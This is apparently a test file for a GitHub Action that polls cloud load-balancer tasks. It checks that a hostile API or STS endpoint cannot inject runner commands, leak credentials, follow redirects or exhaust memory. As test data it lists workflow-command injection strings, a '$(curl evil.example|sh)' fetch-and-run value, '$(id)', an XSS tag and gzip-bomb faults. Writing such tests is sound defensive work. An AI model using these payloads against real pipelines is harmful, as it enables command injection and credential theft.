// The bundled action against a hostile endpoint: every byte from the network is the
// attacker's. stdout is read the way the runner reads it (both command forms, masks in order).
import { startFakeClb, type FakeClb, type FaultKind } from '../../sim/fake-clb.ts';
import { enableFakeOidc } from '../../sim/fake-sts.ts';
import { errors, run, TEST_ACCOUNT, withSim } from '../helpers/action.ts';
import { readAsRunner } from '../helpers/runner-log.ts';
import { runAction, type ActionRun } from '../../scripts/run-action.ts';

/** Which commands the runner would execute; only these are ours to issue. */
function expectOnlyOurCommands(r: ActionRun, secrets: string[] = [TEST_ACCOUNT.secretId, TEST_ACCOUNT.secretKey]) {
  const { commands, visible } = readAsRunner(r.stdout);
  for (const c of commands) {
    expect(['add-mask', 'error', 'warning', 'debug', 'group', 'endgroup']).toContain(c.name);
    if (c.name === 'group') expect(c.data).toMatch(/^Poll details \(\d+ lines\)$/); // our one fold
    if (c.name === 'add-mask') expect(secrets).toContain(c.data);
    if (c.name === 'error') expect(c.data).toMatch(/^clb-task-wait failed with: /);
  }
  expect(commands.filter((c) => c.name === 'error').length).toBeLessThanOrEqual(1);
  for (const line of visible) for (const s of secrets) expect(line).not.toContain(s);
  expect(r.stdout).not.toMatch(/[\u001b\u2028\u2029\u0085]/); // eslint-disable-line no-control-regex
  return commands;
}

const PAYLOADS = [
  'port busy ##[stop-commands]tok',
  'x\n::add-mask::' + TEST_ACCOUNT.secretKey,
  'x\r::set-output name=status::0',
  'x\u2028::warning::forged',
  '\u001b[2K\u001b[1G##[error]spoofed',
  '##[add-path]/tmp/evil',
];

describe('hostile endpoint (dist/index.js, as the runner runs it)', () => {
  it.each(PAYLOADS)('a task Message %j runs no runner command', (payload) =>
    withSim(async (sim) => {
      sim.addTask('t', { finishAfterMs: 0, outcome: 1, message: payload });
      const r = await run(sim, { 'task-id': 't' });
      expect(r.code).toBe(1);
      expectOnlyOurCommands(r);
      expect(r.summary).not.toMatch(/##\[|^::/m);
    }),
  );

  it.each<[string, FaultKind]>([
    ['an API error message', { type: 'error', code: 'InternalError', message: 'busy ##[stop-commands]x\n::error::y' }],
    ['an HTTP body', { type: 'http', status: 502, body: 'gateway\r\n::add-mask::x ##[stop-commands]tok' }],
    ['a non-JSON 200 body', { type: 'raw', status: 200, body: '<html>##[stop-commands]tok</html>' }],
  ])('%s in a retry line runs no command', (_name, fault) =>
    withSim(async (sim) => {
      sim.addTask('t', { finishAfterMs: 0 });
      sim.addFault({ fault });
      const r = await run(sim, { 'task-id': 't' });
      expect(r.code).toBe(0);
      expect(r.stdout).toMatch(/retrying in/);
      expectOnlyOurCommands(r);
    }),
  );

  it('an error code that is not a code is a malformed answer, not quoted raw', () =>
    withSim(async (sim) => {
      sim.addTask('t', { finishAfterMs: 0 });
      const response = { Error: { Code: 'X\n::stop-commands::t', Message: 'm' }, RequestId: crypto.randomUUID() };
      sim.addFault({ fault: { type: 'answer', response }, times: 10 });
      const r = await run(sim, { 'task-id': 't', 'max-retries': '1' });
      expect(r.code).toBe(1);
      expect(errors(r.stdout)[0]).toMatch(/response has a malformed error code/);
      expectOnlyOurCommands(r);
    }));

  it.each([
    ['a command', ['lb-aaaaaaaa', 'lb-x\n::set-output name=status::0']],
    ['shell', ['$(curl evil.example|sh)']],
    ['too many', Array.from({ length: 21 }, (_, i) => `lb-${String(i).padStart(8, '0')}`)],
  ])('LoadBalancerIds carrying %s make a malformed answer, never an output', (_name, ids) =>
    withSim(async (sim) => {
      sim.addTask('t', { finishAfterMs: 0, loadBalancerIds: ids });
      const r = await run(sim, { 'task-id': 't', 'max-retries': '1' });
      expect(r.code).toBe(1);
      expect(errors(r.stdout)[0]).toMatch(/LoadBalancerIds|load balancers, more than 20/);
      expect(r.outputs['load-balancer-ids']).toBe('[]');
      expect(r.outputFile).not.toMatch(/\$\(|set-output/);
      expectOnlyOurCommands(r);
    }),
  );

  it.each(['not-a-uuid', '6ea7f3c1-6b3a-4c7e-9a50-7c2d2d1f9f1e\n$(id)', ''])(
    'a RequestId %j is malformed, and never reaches the request-id output',
    (requestId) =>
      withSim(async (sim) => {
        sim.addTask('t', { finishAfterMs: 0 });
        sim.addFault({
          fault: { type: 'answer', response: { Status: 0, LoadBalancerIds: null, RequestId: requestId } },
          times: 10,
        });
        const r = await run(sim, { 'task-id': 't', 'max-retries': '1' });
        expect(r.code).toBe(1);
        expect(errors(r.stdout)[0]).toMatch(/no well-formed RequestId/);
        expect(r.outputs['request-id']).toBe('');
      }),
  );

  it('refuses a redirect: nothing reaches the target, and the job fails at once naming status and host', async () => {
    const target = await startFakeClb();
    try {
      await withSim(async (sim) => {
        sim.addTask('t', { finishAfterMs: 0 });
        const location = `${target.url}/steal`;
        sim.addFault({ fault: { type: 'raw', status: 307, headers: { location } }, times: 10 });
        const r = await run(sim, { 'task-id': 't' });
        expect(r.code).toBe(1);
        expect(sim.requests).toHaveLength(1);
        expect(target.requests).toHaveLength(0);
        expect(errors(r.stdout)).toEqual([
          `::error::clb-task-wait failed with: DescribeTaskStatus for task t: HTTP 307 redirect to ${target.url} refused: ` +
            'the API never redirects, so credentials and the request are not sent on. Check endpoint and any proxy',
        ]);
      });
    } finally {
      await target.close();
    }
  });

  /** The child's peak resident memory, reported by the child itself as it exits. */
  const PEAK_RSS = [
    '--import',
    'data:text/javascript,process.on("exit",()=>process.stderr.write(`maxrss_kb=${process.resourceUsage().maxRSS}\\n`))',
  ];
  const peakMb = (r: ActionRun) => Number(/maxrss_kb=(\d+)/.exec(r.stderr)?.[1]) / 1024;

  it.each<[string, FaultKind]>([
    ['a gzip bomb (4 GiB inflated)', { type: 'gzip-bomb', inflatedBytes: 4 * 1024 ** 3 }],
    ['an endless body', { type: 'endless' }],
  ])('reads %s only up to the cap, with memory near idle', (_name, fault) =>
    withSim(async (sim) => {
      sim.addTask('t', { finishAfterMs: 0 });
      sim.addFault({ fault, times: 2 });
      const r = await run(sim, { 'task-id': 't', 'max-retries': '2' }, { nodeArgs: PEAK_RSS });
      expect(r.code).toBe(0); // the third attempt gets the real answer
      expect(r.stdout).toMatch(/response body is larger than 2 MiB: not an API answer; abandoned; retrying/);
      expect(peakMb(r)).toBeGreaterThan(10);
      expect(peakMb(r)).toBeLessThan(150);
    }),
  );

  it('keeps the summary and outputs small when a Message is 1 MB of markup', () =>
    withSim(async (sim) => {
      sim.addTask('t', { finishAfterMs: 0, outcome: 1, message: '<img src=x onerror=alert(1)>\r# '.repeat(35_000) });
      const r = await run(sim, { 'task-id': 't' });
      expect(r.code).toBe(1);
      expect(Buffer.byteLength(r.summary)).toBeLessThan(20_000);
      expect(Buffer.byteLength(r.outputFile)).toBeLessThan(5_000);
      expect(r.summary).not.toMatch(/<img|\r|^# /m);
      expect(r.summary).toMatch(/more characters\\\)/); // escaped for markdown
      expect(errors(r.stdout)[0].length).toBeLessThan(1_000);
    }));

  it('refuses more than 200 ids with an input error, before any request', () =>
    withSim(async (sim) => {
      const ids = Array.from({ length: 201 }, (_, i) => `t-${i}`).join(',');
      const r = await run(sim, { 'task-id': ids });
      expect(errors(r.stdout)).toEqual([
        "::error::clb-task-wait failed with: Input 'task-id': 201 ids given, at most 200 per step: split them over several steps",
      ]);
      expect(sim.requests).toHaveLength(0);
    }));

  it('redacts credentials from an error body that echoes the request headers', () =>
    withSim(async (sim) => {
      sim.addTask('t', { finishAfterMs: 0 });
      sim.addFault({ fault: { type: 'echo-headers' }, times: 10 });
      const r = await run(sim, { 'task-id': 't', 'max-retries': '0' });
      expect(r.code).toBe(1);
      expect(r.stdout).toContain(`::add-mask::${TEST_ACCOUNT.secretId}`);
      const withoutMasks = r.stdout
        .split('\n')
        .filter((l) => !l.startsWith('::add-mask::'))
        .join('\n');
      expect(withoutMasks).toMatch(/HTTP 400: Bad request/);
      expect(withoutMasks).not.toContain(TEST_ACCOUNT.secretId);
      expect(withoutMasks).not.toMatch(/Signature=[0-9a-f]/);
      expectOnlyOurCommands(r);
    }));

  it('writes outputs and summary exactly once when signals arrive in a burst', () =>
    withSim(async (sim) => {
      sim.addTask('long', { finishAfterMs: Infinity });
      const r = await run(
        sim,
        { 'task-id': 'long' },
        {
          onSpawn: (child) =>
            child.stdout?.once('data', () => {
              child.kill('SIGINT');
              setTimeout(() => child.kill('SIGINT'), 2);
              setTimeout(() => child.kill('SIGTERM'), 4);
            }),
        },
      );
      expect(r.code).toBe(1);
      expect(r.outputFile.match(/^status<</gm)).toHaveLength(1);
      expect(r.summary.match(/### CLB task wait/g)).toHaveLength(1);
      expect(errors(r.stdout)[0]).toMatch(/cancelled after/);
    }));

  it('refuses a bad port as input, before any request', () =>
    withSim(async (sim) => {
      const r = await run(sim, { 'task-id': 't', endpoint: 'http://127.0.0.1:6000' });
      expect(errors(r.stdout)[0]).toMatch(/Input 'endpoint': .*port 6000/);
    }));

  it('warns once, loudly, when NODE_TLS_REJECT_UNAUTHORIZED=0', () =>
    withSim(async (sim) => {
      sim.addTask('t', { finishAfterMs: 0 });
      const r = await run(sim, { 'task-id': 't' }, { env: { NODE_TLS_REJECT_UNAUTHORIZED: '0' } });
      expect(r.code).toBe(0);
      const warnings = readAsRunner(r.stdout).commands.filter((c) => c.name === 'warning');
      expect(warnings).toHaveLength(1);
      expect(warnings[0].data).toMatch(/^NODE_TLS_REJECT_UNAUTHORIZED=0 is set: TLS certificates are NOT checked/);
    }));
});

describe('hostile STS (keyless login)', () => {
  const ROLE = 'qcs::cam::uin/100000000001:roleName/deployer';
  const github = { GITHUB_REPOSITORY: 'octo/app', GITHUB_RUN_ID: '7', GITHUB_RUN_ATTEMPT: '1' };
  const keyless = (sim: FakeClb) => ({
    endpoint: sim.url,
    'sts-endpoint': sim.url,
    'role-arn': ROLE,
    'provider-id': 'github-actions',
  });

  it.each([
    ['in the past', () => Math.floor(Date.now() / 1000) - 60],
    ['zero', () => 0],
    ['in milliseconds', () => 1e13],
    ['two seconds away', () => Math.floor(Date.now() / 1000) + 2],
  ])('an ExpiredTime %s fails clearly after one login', (_name, expiredTime) =>
    withSim(async (sim) => {
      const oidc = enableFakeOidc(sim, { roleArn: ROLE, providerId: 'github-actions' });
      const assume = sim.handlers.get('AssumeRoleWithWebIdentity')!;
      sim.handlers.set('AssumeRoleWithWebIdentity', async (p, req) => ({
        ...(await assume(p, req)),
        ExpiredTime: expiredTime(),
      }));
      sim.addTask('t', { finishAfterMs: 0 });
      const r = await runAction({ inputs: { ...keyless(sim), 'task-id': 't' }, env: { ...oidc.env, ...github } });
      expect(r.code).toBe(1);
      expect(errors(r.stdout)[0]).toMatch(/returned ExpiredTime .* not between 1 minute and 12 hours from now/);
      expect(oidc.assumeRoleCalls).toHaveLength(1);
      expect(sim.requests.filter((q) => q.action === 'DescribeTaskStatus')).toHaveLength(0);
    }),
  );

  it('an STS error message runs no command and leaks no token', () =>
    withSim(async (sim) => {
      const oidc = enableFakeOidc(sim, { roleArn: ROLE, providerId: 'github-actions' });
      sim.handlers.set('AssumeRoleWithWebIdentity', () => {
        throw Object.assign(new Error('denied ##[stop-commands]tok\n::add-mask::x'), { code: 'UnauthorizedOperation' });
      });
      sim.addTask('t', { finishAfterMs: 0 });
      const r = await runAction({ inputs: { ...keyless(sim), 'task-id': 't' }, env: { ...oidc.env, ...github } });
      expect(r.code).toBe(1);
      expect(errors(r.stdout)[0]).toMatch(/UnauthorizedOperation: denied ## \[stop-commands\]tok ::add-mask::x/);
      expectOnlyOurCommands(r, oidc.issued.idTokens);
    }));
});
